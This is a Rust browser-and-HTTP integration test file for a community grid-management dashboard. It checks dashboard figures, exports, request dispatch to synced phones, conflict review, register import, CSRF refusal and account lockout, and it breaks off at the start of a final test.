//! The county dashboard in a real browser: headless Chromium driven through chromedriver
//! against a real `doorstep-server` process on 127.0.0.1 over a temporary data directory.
//! Chromium and chromidriver must be installed (`scripts/test` installs them); if they cannot
//! start, these tests fail, they never skip.
//!
//! Screenshots of the main pages are written to `target/tmp/screenshots/`, or to
//! `docs/screenshots/` with `DOORSTEP_UPDATE_SCREENSHOTS=1`.

mod support;

use std::collections::HashSet;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use calamine::Reader;
use doorstep_core::doc::{self, DocumentKind};
use doorstep_core::ids::{GridId, RequestId};
use doorstep_core::lifecycle::RequestStatus;
use doorstep_core::model::{EventAction, Household, Request, Satisfaction};
use doorstep_core::store::Replica;
use doorstep_core::time::Timestamp;
use doorstep_server::demo::{self, DemoSummary};
use doorstep_server::scope::Role;
use doorstep_server::storage::Storage;
use fantoccini::{Client, ClientBuilder, Locator};
use support::*;

const CHROMIUM: &str = "/usr/lib/chromium/chromium";
const CHROMEDRIVER: &str = "chromedriver";
const WAIT: Duration = Duration::from_secs(30);

/// Headless Chromium behind a chromedriver process; both end when this is dropped.
struct Browser {
    client: Option<Client>,
    driver: Child,
    _profile: tempfile::TempDir,
}

impl Browser {
    async fn start() -> Self {
        let port =
            std::net::TcpListener::bind("127.0.0.1:0").expect("free port").local_addr().expect("addr").port();
        let driver = Command::new(CHROMEDRIVER)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| {
                panic!("cannot start {CHROMEDRIVER} (apt-get install chromium chromium-driver): {e}")
            });
        let profile = tempfile::tempdir().expect("profile dir");
        let mut caps = serde_json::Map::new();
        caps.insert(
            "goog:chromeOptions".into(),
            serde_json::json!({
                "binary": CHROMIUM,
                "args": [
                    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                    "--disable-background-networking", "--disable-component-update", "--disable-sync",
                    "--disable-dev-shm-usage", "--window-size=1280,900", "--lang=zh-CN",
                    format!("--user-data-dir={}", profile.path().display()),
                ]
            }),
        );
        // chromedriver takes a moment to listen: retry, bounded.
        let url = format!("http://127.0.0.1:{port}");
        let mut last_error = String::new();
        for _ in 0..100 {
            match ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
                .capabilities(caps.clone())
                .connect(&url)
                .await
            {
                Ok(client) => return Self { client: Some(client), driver, _profile: profile },
                Err(e) => last_error = e.to_string(),
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("Chromium did not start through chromedriver: {last_error}");
    }

    fn client(&self) -> &Client {
        self.client.as_ref().expect("open")
    }

    async fn close(mut self) {
        if let Some(client) = self.client.take() {
            client.close().await.expect("close the browser");
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

async fn text(client: &Client, css: &str) -> String {
    client.wait().at_most(WAIT).for_element(Locator::Css(css)).await.expect(css).text().await.expect("text")
}

async fn sign_in(client: &Client, base: &str, login: &str, password: &str) {
    client.goto(&format!("{base}/dashboard/sign-in")).await.expect("sign-in page");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("login"))
        .await
        .expect("form")
        .send_keys(login)
        .await
        .expect("type");
    client.find(Locator::Id("password")).await.expect("field").send_keys(password).await.expect("type");
    client.find(Locator::Id("submit")).await.expect("button").click().await.expect("submit");
}

fn screenshots_dir() -> PathBuf {
    let dir = if std::env::var_os("DOORSTEP_UPDATE_SCREENSHOTS").is_some() {
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../docs/screenshots")
    } else {
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("screenshots")
    };
    std::fs::create_dir_all(&dir).expect("screenshots dir");
    dir
}

async fn screenshot(client: &Client, name: &str) {
    let png = client.screenshot().await.expect("screenshot");
    assert!(png.starts_with(b"\x89PNG"), "a PNG");
    std::fs::write(screenshots_dir().join(format!("{name}.png")), png).expect("write screenshot");
}

/// What the seeded data says, computed here with the core's read functions only.
struct Truth {
    households: Vec<Household>,
    requests: Vec<Request>,
}

impl Truth {
    fn read(storage: &dyn Storage, grids: &[GridId]) -> Self {
        let mut households = Vec::new();
        let mut requests = Vec::new();
        for changed in storage.documents_since(0).expect("documents") {
            match DocumentKind::of(&changed.doc) {
                Some(DocumentKind::Household) => {
                    let h = doc::household::read(&changed.doc, changed.id.as_household()).expect("household");
                    if grids.contains(&h.address.grid) {
                        households.push(h);
                    }
                }
                Some(DocumentKind::Request) => {
                    let r = doc::request::read(&changed.doc, changed.id.as_request()).expect("request");
                    if grids.contains(&r.grid) {
                        requests.push(r);
                    }
                }
                None => panic!("untyped document"),
            }
        }
        Self { households, requests }
    }
}

fn seeded() -> (TestServer, DemoSummary) {
    let server = TestServer::start();
    let summary = demo::seed_sized(server.storage().as_ref(), doorstep_server::http::now(), 8)
        .expect("seed")
        .expect("empty");
    (server, summary)
}

#[tokio::test]
async fn a_supervisor_reads_the_figures_works_the_ledger_and_a_device_receives_the_dispatch() {
    let (server, summary) = seeded();
    let storage = server.storage();
    let base = server.url.clone();
    let supervisor = summary.accounts.iter().find(|a| a.role == Role::Supervisor).expect("demo supervisor");
    let community: Vec<GridId> = storage
        .grids()
        .expect("grids")
        .into_iter()
        .filter(|g| g.community == "幸福社区")
        .map(|g| g.id)
        .collect();
    let grid_one =
        storage.grids().expect("grids").into_iter().find(|g| g.name == "幸福社区第1网格").expect("grid").id;

    // The grid worker's phone holds grid one before anything happens on the dashboard.
    let dir = devices_dir();
    let mut phone = Replica::open(dir.path().join("phone.db")).expect("replica");
    let worker_code = &summary.logins.iter().find(|l| l.role == Role::GridWorker).expect("worker").code;
    server.client().enrol(&mut phone, worker_code, "phone").await.expect("enrol");
    server.client().sync(&mut phone).await.expect("first sync");

    let browser = Browser::start().await;
    let client = browser.client();

    // A wrong password is refused and nobody is signed in.
    sign_in(client, &base, &supervisor.login, "not-the-password").await;
    assert!(text(client, "#error").await.contains("账号或密码错误"));
    assert!(client.find(Locator::Id("me")).await.is_err(), "not signed in");

    // Sign in; the overview's figures are the seeded data's, within the community's scope.
    sign_in(client, &base, &supervisor.login, &supervisor.password).await;
    assert!(text(client, "#me").await.contains("幸福社区负责人"));
    let truth = Truth::read(&*storage, &community);
    let now = doorstep_server::http::now();
    let month_ago = Timestamp(now.millis() - 30 * 86_400_000);
    let visits_30d: usize = truth
        .households
        .iter()
        .map(|h| h.visits.iter().filter(|v| v.at >= month_ago && v.at <= now).count())
        .sum();
    let open = truth.requests.iter().filter(|r| r.status().is_open()).count();
    let overdue = truth.requests.iter().filter(|r| r.status().is_open() && r.due_at < now).count();
    let resolved = truth
        .requests
        .iter()
        .filter(|r| {
            matches!(r.status(), RequestStatus::Resolved | RequestStatus::FollowedUp | RequestStatus::Closed)
        })
        .count();
    let cancelled = truth.requests.iter().filter(|r| r.status() == RequestStatus::Cancelled).count();
    let answered: Vec<Satisfaction> = truth.requests.iter().filter_map(|r| r.derived.satisfaction).collect();
    let satisfied = answered.iter().filter(|s| **s != Satisfaction::Unsatisfied).count();
    assert_eq!(text(client, "#households").await, (4 * 8).to_string());
    assert_eq!(text(client, "#households").await, truth.households.len().to_string());
    assert_eq!(text(client, "#visits-30d").await, visits_30d.to_string());
    assert_eq!(text(client, "#open").await, open.to_string());
    assert_eq!(text(client, "#overdue").await, overdue.to_string());
    assert_eq!(text(client, "#resolved").await, resolved.to_string());
    assert_eq!(
        text(client, "#resolution-rate").await,
        format!("{:.1}%", resolved as f64 / (truth.requests.len() - cancelled) as f64 * 100.0)
    );
    assert_eq!(
        text(client, "#satisfaction").await,
        format!("{:.1}%", satisfied as f64 / answered.len() as f64 * 100.0)
    );
    let bars = client.find_all(Locator::Css("#trend rect title")).await.expect("chart");
    assert!(bars.len() >= 12, "a bar per week");
    screenshot(client, "overview").await;

    // The English switch.
    client.goto(&format!("{base}/dashboard/overview?lang=en")).await.expect("english");
    assert_eq!(text(client, "h1").await, "Overview");
    client.goto(&format!("{base}/dashboard/overview?lang=zh")).await.expect("chinese");
    assert_eq!(text(client, "h1").await, "总览");

    // Filter the ledger: raised requests of grid one.
    client.goto(&format!("{base}/dashboard/ledger")).await.expect("ledger");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("f-status"))
        .await
        .expect("filters")
        .select_by_value("raised")
        .await
        .expect("status");
    client
        .find(Locator::Id("f-grid"))
        .await
        .expect("grid filter")
        .select_by_value(&grid_one.to_string())
        .await
        .expect("grid");
    client.find(Locator::Id("apply")).await.expect("apply").click().await.expect("filter");
    wait_for_url(client, "status=raised").await;
    let raised: HashSet<RequestId> = truth
        .requests
        .iter()
        .filter(|r| r.grid == grid_one && r.status() == RequestStatus::Raised)
        .map(|r| r.id)
        .collect();
    wait_for_text(client, "#count", &raised.len().to_string()).await;
    let rows = client.find_all(Locator::Css("#ledger tr[data-id]")).await.expect("rows");
    let mut shown = HashSet::new();
    for row in &rows {
        shown.insert(row.attr("data-id").await.expect("attr").expect("id").parse::<RequestId>().expect("id"));
    }
    assert_eq!(shown, raised, "the filtered ledger is exactly grid one's raised requests");
    screenshot(client, "ledger").await;

    // Export the filtered ledger as XLSX (with the browser's session) and read it back.
    let cookie = client.get_named_cookie("dsk_session").await.expect("session cookie");
    let http = reqwest::Client::new();
    let xlsx = http
        .get(format!("{base}/dashboard/export/ledger.xlsx?status=raised&grid={grid_one}"))
        .header("cookie", format!("dsk_session={}", cookie.value()))
        .send()
        .await
        .expect("export")
        .bytes()
        .await
        .expect("body");
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.to_vec())).expect("xlsx");
    let sheet = book.worksheet_range_at(0).expect("a sheet").expect("readable");
    let table: Vec<Vec<String>> = sheet.rows().map(|r| r.iter().map(|c| c.to_string()).collect()).collect();
    assert_eq!(table[0][..3], ["编号", "网格", "类别"]);
    let exported: HashSet<RequestId> = table[1..].iter().map(|r| r[0].parse().expect("id")).collect();
    assert_eq!(exported, raised);
    assert!(table[1..].iter().all(|r| r[1] == "幸福社区第1网格" && r[5] == "待受理"));

    // Dispatch one of them to the civil affairs bureau.
    let target = *raised.iter().min().expect("a raised request in grid one");
    client.goto(&format!("{base}/dashboard/requests/{target}")).await.expect("request page");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("department"))
        .await
        .expect("form")
        .select_by_value("civil_affairs")
        .await
        .expect("department");
    client.find(Locator::Id("do-dispatch")).await.expect("button").click().await.expect("dispatch");
    client.wait().at_most(WAIT).for_element(Locator::Id("done")).await.expect("recorded");
    let status =
        client.find(Locator::Id("status")).await.expect("status").attr("data-status").await.expect("attr");
    assert_eq!(status.as_deref(), Some("dispatched"));
    assert!(text(client, "#timeline").await.contains("转办 → 民政局"));
    screenshot(client, "request").await;

    // Closing a dispatched request is not in the lifecycle table: refused, nothing written.
    client.find(Locator::Id("do-close")).await.expect("close").click().await.expect("click");
    assert!(text(client, "#error").await.contains("not allowed now"));

    // The phone receives the event at its next sync.
    server.client().sync(&mut phone).await.expect("sync");
    let on_phone = phone.request(target).expect("the phone holds the request");
    assert_eq!(on_phone.status(), RequestStatus::Dispatched);
    let boss = storage
        .members()
        .expect("members")
        .into_iter()
        .find(|m| m.name == "幸福社区负责人")
        .expect("member")
        .id;
    assert!(on_phone.events.iter().any(|e| e.by == boss
        && matches!(&e.action, EventAction::Dispatched { department } if department.as_str() == "civil_affairs")));

    // Grid and household pages, for the screenshots and the never-visited-first order.
    client.goto(&format!("{base}/dashboard/grids/{grid_one}?days=30")).await.expect("grid");
    let count: usize = text(client, "#count").await.parse().expect("count");
    assert_eq!(count, 8);
    screenshot(client, "grid").await;
    let first = client.find(Locator::Css("#households tr td a")).await.expect("a household");
    first.click().await.expect("open household");
    client.wait().at_most(WAIT).for_element(Locator::Id("residents")).await.expect("household page");
    screenshot(client, "household").await;

    // On a phone-sized window the overview still lays out (cards wrap, no page-wide overflow).
    client.set_window_size(390, 844).await.expect("phone size");
    client.goto(&format!("{base}/dashboard/overview")).await.expect("overview");
    client.wait().at_most(WAIT).for_element(Locator::Id("households")).await.expect("overview");
    let width = client.execute("return document.documentElement.scrollWidth", vec![]).await.expect("width");
    assert!(width.as_u64().expect("number") <= 400, "no horizontal overflow on a phone: {width}");
    screenshot(client, "overview-phone").await;

    // Sign out: the session no longer opens pages.
    client.set_window_size(1280, 900).await.expect("size");
    client.find(Locator::Id("sign-out")).await.expect("sign out").click().await.expect("click");
    client.wait().at_most(WAIT).for_element(Locator::Id("login")).await.expect("back at sign-in");
    let after = http
        .get(format!("{base}/dashboard/overview"))
        .header("cookie", format!("dsk_session={}", cookie.value()))
        .send()
        .await
        .expect("request");
    assert_eq!(after.url().path(), "/dashboard/sign-in", "the old cookie is dead");
    browser.close().await;
}

async fn wait_for_url(client: &Client, contains: &str) {
    for _ in 0..100 {
        if client.current_url().await.expect("url").as_str().contains(contains) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the browser never reached a URL with {contains:?}");
}

async fn wait_for_text(client: &Client, css: &str, expected: &str) {
    let mut last = String::new();
    for _ in 0..100 {
        if let Ok(el) = client.find(Locator::Css(css)).await
            && let Ok(t) = el.text().await
        {
            if t == expected {
                return;
            }
            last = t;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("{css} shows {last:?}, expected {expected:?}");
}

/// A plain HTTP client that does not follow redirects, for the checks a browser cannot forge.
fn http() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client")
}

fn hidden_csrf(html: &str) -> String {
    let start = html.find("name=\"csrf\" value=\"").expect("a csrf field") + "name=\"csrf\" value=\"".len();
    html[start..].split('"').next().expect("value").to_owned()
}

/// Signs in over plain HTTP; returns the response to the sign-in POST.
async fn http_sign_in(base: &str, login: &str, password: &str) -> reqwest::Response {
    let http = http();
    let form = http.get(format!("{base}/dashboard/sign-in")).send().await.expect("form");
    let pre = set_cookie(&form, "dsk_pre").expect("pre-session cookie");
    let csrf = hidden_csrf(&form.text().await.expect("body"));
    assert_eq!(pre, csrf, "double-submit token");
    http.post(format!("{base}/dashboard/sign-in"))
        .header("cookie", format!("dsk_pre={pre}"))
        .form(&[("login", login), ("password", password), ("csrf", &csrf)])
        .send()
        .await
        .expect("sign in")
}

#[tokio::test]
async fn forged_csrf_tokens_are_refused_and_a_real_action_is_pushed_to_an_online_phone() {
    let (server, summary) = seeded();
    let base = server.url.clone();
    let supervisor = summary.accounts.iter().find(|a| a.role == Role::Supervisor).expect("supervisor");

    // The sign-in form itself: a token that does not match the pre-session cookie.
    let forged = http()
        .post(format!("{base}/dashboard/sign-in"))
        .header("cookie", "dsk_pre=aaaa")
        .form(&[
            ("login", supervisor.login.as_str()),
            ("password", supervisor.password.as_str()),
            ("csrf", "bbbb"),
        ])
        .send()
        .await
        .expect("post");
    assert_eq!(forged.status(), 403);

    let signed_in = http_sign_in(&base, &supervisor.login, &supervisor.password).await;
    assert_eq!(signed_in.status(), 303);
    let cookie_line = signed_in
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().expect("ascii").to_owned())
        .find(|v| v.starts_with("dsk_session="))
        .expect("session cookie");
    assert!(cookie_line.contains("HttpOnly") && cookie_line.contains("SameSite=Strict"), "{cookie_line}");
    let session = set_cookie(&signed_in, "dsk_session").expect("session");
    let cookie = format!("dsk_session={session}");
    let overview = http()
        .get(format!("{base}/dashboard/overview"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("overview");
    assert_eq!(overview.status(), 200);
    let real_csrf = hidden_csrf(&overview.text().await.expect("body"));

    let storage = server.storage();
    let grids: Vec<GridId> = storage
        .grids()
        .expect("grids")
        .into_iter()
        .filter(|g| g.community == "幸福社区")
        .map(|g| g.id)
        .collect();
    let truth = Truth::read(&*storage, &grids);
    let grid_one =
        storage.grids().expect("grids").into_iter().find(|g| g.name == "幸福社区第1网格").expect("grid").id;
    let target = truth
        .requests
        .iter()
        .find(|r| r.grid == grid_one && r.status() == RequestStatus::Raised)
        .expect("a raised request")
        .id;
    // The grid worker's phone is online over a WebSocket.
    let dir = devices_dir();
    let mut phone = Replica::open(dir.path().join("phone.db")).expect("replica");
    let worker_code = &summary.logins.iter().find(|l| l.role == Role::GridWorker).expect("worker").code;
    server.client().enrol(&mut phone, worker_code, "phone").await.expect("enrol");
    let mut live = server
        .client()
        .connect_live(&doorstep_client::Client::device_token(&phone).expect("token"))
        .await
        .expect("websocket");
    live.sync(&mut phone).await.expect("first round");
    assert!(!phone.request(target).expect("held").derived.supervised);
    let before = storage.latest_seq().expect("seq");
    for token in ["", "forged", &real_csrf[..real_csrf.len() - 1]] {
        let response = http()
            .post(format!("{base}/dashboard/requests/{target}/action"))
            .header("cookie", &cookie)
            .form(&[("csrf", token), ("action", "supervise"), ("note", "")])
            .send()
            .await
            .expect("post");
        assert_eq!(response.status(), 403, "token {token:?}");
    }
    // Without a session, a POST goes to sign-in.
    let anonymous = http()
        .post(format!("{base}/dashboard/requests/{target}/action"))
        .form(&[("csrf", real_csrf.as_str()), ("action", "supervise")])
        .send()
        .await
        .expect("post");
    assert_eq!(anonymous.status(), 303);
    assert_eq!(storage.latest_seq().expect("seq"), before, "nothing was written");

    // The visit log export holds exactly the community's visits, with Chinese headers.
    let csv = http()
        .get(format!("{base}/dashboard/export/visits.csv"))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("export")
        .bytes()
        .await
        .expect("body");
    let csv = std::str::from_utf8(csv.strip_prefix(b"\xEF\xBB\xBF").expect("a byte-order mark for Excel"))
        .expect("utf-8");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().expect("headers").iter().take(3).collect::<Vec<_>>(),
        ["网格", "社区", "地址"]
    );
    let visits: usize = truth.households.iter().map(|h| h.visits.len()).sum();
    assert_eq!(reader.records().count(), visits);

    // The real token works.
    let response = http()
        .post(format!("{base}/dashboard/requests/{target}/action"))
        .header("cookie", &cookie)
        .form(&[("csrf", real_csrf.as_str()), ("action", "supervise"), ("note", "请加快办理")])
        .send()
        .await
        .expect("post");
    assert_eq!(response.status(), 303);
    let stored = storage.document(target.into()).expect("read").expect("stored");
    let request = doc::request::read(&stored, target).expect("request");
    assert!(request.derived.supervised);
    // The online phone is pushed the event without asking.
    let pushed =
        tokio::time::timeout(WAIT, live.next_push(&mut phone)).await.expect("pushed in time").expect("push");
    assert_eq!(pushed.received_docs, 1);
    let on_phone = phone.request(target).expect("held");
    assert!(on_phone.derived.supervised);
    assert!(on_phone.events.iter().any(|e| e.note == "请加快办理"));
}

#[tokio::test]
async fn repeated_wrong_passwords_lock_an_account_made_with_the_cli() {
    let server = TestServer::start();
    let storage = server.storage();
    let grid = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let boss = member(&*storage, "李主任", Role::Supervisor, &[grid]);
    let out = Command::new(SERVER)
        .arg("--data-dir")
        .arg(server.dir.path())
        .args(server.database.iter().flat_map(|db| ["--database".to_owned(), db.url.clone()]))
        .args(["account", "add", "--member", &boss.to_string(), "--login", "li"])
        .env("DOORSTEP_PASSWORD", "correct-horse-battery")
        .output()
        .expect("account add");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let taken = Command::new(SERVER)
        .arg("--data-dir")
        .arg(server.dir.path())
        .args(server.database.iter().flat_map(|db| ["--database".to_owned(), db.url.clone()]))
        .args(["account", "add", "--member", &boss.to_string(), "--login", "li"])
        .env("DOORSTEP_PASSWORD", "another-password")
        .output()
        .expect("account add");
    assert!(!taken.status.success(), "a login is unique");

    let base = server.url.clone();
    assert_eq!(http_sign_in(&base, "li", "correct-horse-battery").await.status(), 303);
    for _ in 0..doorstep_server::dashboard::session::MAX_FAILURES {
        let response = http_sign_in(&base, "li", "wrong").await;
        assert_eq!(response.status(), 401);
    }
    let locked = http_sign_in(&base, "li", "correct-horse-battery").await;
    assert_eq!(locked.status(), 401, "locked even with the right password");
    assert!(locked.text().await.expect("body").contains("锁定"));
    let account = storage.staff_account("li").expect("read").expect("account");
    assert!(account.locked_until.is_some_and(|t| t > doorstep_server::http::now()));
    // An unknown login gets the same answer as a wrong password.
    let unknown = http_sign_in(&base, "nobody", "whatever").await;
    assert_eq!(unknown.status(), 401);
    assert!(unknown.text().await.expect("body").contains("账号或密码错误"));
}

#[tokio::test]
async fn a_dashboard_action_keeps_what_a_phone_uploaded_since_the_document_was_loaded() {
    let server = TestServer::start();
    let storage = server.storage();
    let grid = storage.create_grid("第一网格", "幸福社区", "城关街道").expect("grid");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[grid]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "phone", worker).await;
    let request = phone
        .raise_request(&doorstep_core::model::NewRequest {
            household: None,
            grid: Some(grid),
            category: "facility_repair".into(),
            description: "路灯不亮".into(),
            urgency: doorstep_core::model::Urgency::Normal,
            at: t(0),
        })
        .expect("raise");
    server.client().sync(&mut phone).await.expect("upload");

    // The server loads the request for an action while the phone uploads an event.
    let mut stale = storage.document(request.into()).expect("read").expect("stored");
    let progress =
        doorstep_core::model::NewEvent { action: EventAction::Accepted, note: String::new(), at: t(1) };
    phone.add_request_event(request, &progress).expect("accept");
    server.client().sync(&mut phone).await.expect("upload");
    let supervise =
        doorstep_core::model::NewEvent { action: EventAction::Supervised, note: String::new(), at: t(2) };
    doc::request::add_event(
        &mut stale,
        request,
        doorstep_core::ids::EventId::new_random(),
        &supervise,
        worker,
    )
    .expect("supervise");
    stale.commit();
    storage
        .write_server_documents(&mut [(request.into(), stale)], doorstep_server::http::now())
        .expect("write");

    let stored = storage.document(request.into()).expect("read").expect("stored");
    let stored = doc::request::read(&stored, request).expect("request");
    assert_eq!(stored.status(), RequestStatus::Accepted, "the phone's event is in the stored document");
    assert!(stored.derived.supervised, "and so is the server's");
    let listed = storage.documents_since(0).expect("documents");
    let snapshot = &listed.iter().find(|d| d.id == request.into()).expect("listed").doc;
    assert_eq!(doc::request::read(snapshot, request).expect("request").events.len(), 3);
}

/// Writes two concurrent decisions into a request and two phone numbers into a household, as
/// two offline phones would, so the dashboard has conflicts to review.
fn make_conflicts(storage: &dyn Storage, request: RequestId, household: doorstep_core::ids::HouseholdId) {
    use doorstep_core::ids::{Code, EventId, MemberId};
    use doorstep_core::model::{NewEvent, ResidentPatch};
    let now = doorstep_server::http::now();
    let mut a = storage.document(request.into()).expect("read").expect("stored");
    let mut b = a.fork();
    let on_spot = NewEvent { action: EventAction::ResolvedOnSpot, note: "当场修好".into(), at: now };
    doc::request::add_event(&mut a, request, EventId::new_random(), &on_spot, MemberId::new_random())
        .expect("a");
    let dispatch = NewEvent {
        action: EventAction::Dispatched { department: Code::new("housing_construction").expect("code") },
        note: String::new(),
        at: now,
    };
    doc::request::add_event(&mut b, request, EventId::new_random(), &dispatch, MemberId::new_random())
        .expect("b");
    a.merge(&mut b).expect("merge");
    a.commit();
    let mut h = storage.document(household.into()).expect("read").expect("stored");
    let resident = doc::household::read(&h, household).expect("household").residents[0].id;
    let mut g = h.fork();
    for (doc, phone) in [(&mut h, "13800000001"), (&mut g, "13900000002")] {
        let patch = ResidentPatch { phone: Some(phone.into()), ..Default::default() };
        doc::household::update_resident(doc, household, resident, &patch).expect("phone");
        doc.commit();
    }
    h.merge(&mut g).expect("merge");
    storage.write_server_documents(&mut [(request.into(), a), (household.into(), h)], now).expect("write");
}

#[tokio::test]
async fn an_administrator_reviews_conflicts_imports_a_register_and_enrols_and_revokes_a_phone() {
    let (server, summary) = seeded();
    let storage = server.storage();
    let base = server.url.clone();
    let admin = summary.accounts.iter().find(|a| a.role == Role::Admin).expect("demo admin");
    let grids = storage.grids().expect("grids");
    let grid_one = grids.iter().find(|g| g.name == "幸福社区第1网格").expect("grid").id;
    let truth = Truth::read(&*storage, &[grid_one]);
    let raised = truth
        .requests
        .iter()
        .filter(|r| r.status() == RequestStatus::Raised)
        .map(|r| r.id)
        .min()
        .expect("raised");
    let household = truth.households[0].id;
    make_conflicts(&*storage, raised, household);

    let browser = Browser::start().await;
    let client = browser.client();
    sign_in(client, &base, &admin.login, &admin.password).await;
    client.wait().at_most(WAIT).for_element(Locator::Id("me")).await.expect("signed in");

    // Conflicts: both sides of the request's fork and both phone numbers are listed.
    client.goto(&format!("{base}/dashboard/conflicts")).await.expect("conflicts");
    let listed = text(client, "#request-conflicts").await;
    assert!(listed.contains("即时办理") && listed.contains("转办"), "{listed}");
    let fields = text(client, "#field-conflicts").await;
    assert!(fields.contains("13800000001") && fields.contains("13900000002"), "{fields}");
    screenshot(client, "conflicts").await;
    // Choose the second number.
    client.find(Locator::Id("resolve-2")).await.expect("resolve button").click().await.expect("choose");
    wait_for_url(client, "done=1").await;
    assert!(!text(client, "#field-conflicts").await.contains("13800000001"));
    let stored = storage.document(household.into()).expect("read").expect("stored");
    assert!(doc::household::conflicts(&stored, household).is_empty());
    // Review the request's conflict, keeping the derived status.
    client.goto(&format!("{base}/dashboard/requests/{raised}")).await.expect("request");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("do-review"))
        .await
        .expect("review form")
        .click()
        .await
        .expect("review");
    client.wait().at_most(WAIT).for_element(Locator::Id("done")).await.expect("recorded");
    let stored = storage.document(raised.into()).expect("read").expect("stored");
    assert!(doc::request::read(&stored, raised).expect("request").derived.conflicts.is_empty());
    client.goto(&format!("{base}/dashboard/conflicts")).await.expect("conflicts");
    assert!(!text(client, "#request-conflicts").await.contains("即时办理"));

    // Import an XLSX register: a preview with the rejected rows, nothing written until confirmed.
    let file = tempfile::Builder::new().suffix(".xlsx").tempfile().expect("file");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let rows: [[&str; 11]; 5] = [
        ["社区", "网格", "楼栋", "单元", "室", "姓名", "性别", "出生年份", "电话", "标签", "备注"],
        ["幸福社区", "幸福社区第1网格", "9栋", "1单元", "101", "赵大爷", "男", "1940", "", "独居老人", ""],
        ["幸福社区", "幸福社区第1网格", "9栋", "1单元", "101", "赵奶奶", "女", "1942", "", "", ""],
        ["幸福社区", "没有这个网格", "9栋", "1单元", "102", "钱", "男", "1980", "", "", ""],
        ["幸福社区", "幸福社区第1网格", "9栋", "1单元", "103", "孙", "未知", "1980", "", "", ""],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, value) in row.iter().enumerate() {
            sheet.write_string(r as u32, c as u16, *value).expect("cell");
        }
    }
    book.save(file.path()).expect("save xlsx");
    let before = storage.documents_since(0).expect("docs").len();
    client.goto(&format!("{base}/dashboard/import")).await.expect("import");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("file"))
        .await
        .expect("file input")
        .send_keys(file.path().to_str().expect("path"))
        .await
        .expect("choose file");
    client.find(Locator::Id("upload")).await.expect("upload").click().await.expect("upload");
    assert_eq!(text(client, "#preview-households").await, "1");
    assert_eq!(text(client, "#preview-residents").await, "2");
    assert_eq!(text(client, "#preview-rejected").await, "2");
    let rejected = text(client, "#rejected").await;
    assert!(rejected.contains("unknown grid") && rejected.contains("invalid sex"), "{rejected}");
    assert_eq!(storage.documents_since(0).expect("docs").len(), before, "a preview writes nothing");
    screenshot(client, "import-preview").await;
    client.find(Locator::Id("confirm")).await.expect("confirm").click().await.expect("confirm");
    assert_eq!(text(client, "#imported-households").await, "1");
    assert_eq!(storage.documents_since(0).expect("docs").len(), before + 1);

    // Administration: a single-use enrolment code for the grid worker, then revoke the phone.
    let worker = storage
        .members()
        .expect("members")
        .into_iter()
        .find(|m| m.role == Role::GridWorker && m.grids == [grid_one])
        .expect("worker");
    client.goto(&format!("{base}/dashboard/admin")).await.expect("admin");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id(&format!("enrol-{}", worker.id)))
        .await
        .expect("button")
        .click()
        .await
        .expect("code");
    let code = text(client, "#code").await;
    let dir = devices_dir();
    let mut phone = Replica::open(dir.path().join("phone.db")).expect("replica");
    let enrolled = server.client().enrol(&mut phone, &code, "new phone").await.expect("the code works");
    server.client().sync(&mut phone).await.expect("sync");
    assert_eq!(phone.household(truth.households[1].id).expect("in scope").id, truth.households[1].id);
    screenshot(client, "admin").await;
    // Hand the worker a second grid: the phone receives its households at the next sync.
    let grid_two = grids.iter().find(|g| g.name == "幸福社区第2网格").expect("grid").id;
    client.goto(&format!("{base}/dashboard/admin")).await.expect("admin");
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id("assign-member"))
        .await
        .expect("form")
        .select_by_value(&worker.id.to_string())
        .await
        .expect("member");
    client
        .find(Locator::Id("assign-grid"))
        .await
        .expect("grid")
        .select_by_value(&grid_two.to_string())
        .await
        .expect("grid");
    client.find(Locator::Id("do-assign")).await.expect("assign").click().await.expect("assign");
    assert!(text(client, "#notice").await.contains("已分配网格"));
    let report = server.client().sync(&mut phone).await.expect("sync");
    assert_eq!(report.received_docs, 8 + 50, "grid two's households and requests");
    client.goto(&format!("{base}/dashboard/admin")).await.expect("admin");
    let device_id =
        storage.devices().expect("devices").into_iter().find(|d| d.name == "new phone").expect("device").id;
    let _ = enrolled;
    client
        .wait()
        .at_most(WAIT)
        .for_element(Locator::Id(&format!("revoke-{device_id}")))
        .await
        .expect("button")
        .click()
        .await
        .expect("revoke");
    client.wait().at_most(WAIT).for_element(Locator::Id("notice")).await.expect("revoked");
    assert!(server.client().sync(&mut phone).await.is_err(), "a revoked phone cannot sync");
    browser.close().await;
}

#[tokio::test]
async fn department_staff_see_only_their_department_and_cannot_act() {
    let (server, summary) = seeded();
    let storage = server.storage();
    let base = server.url.clone();
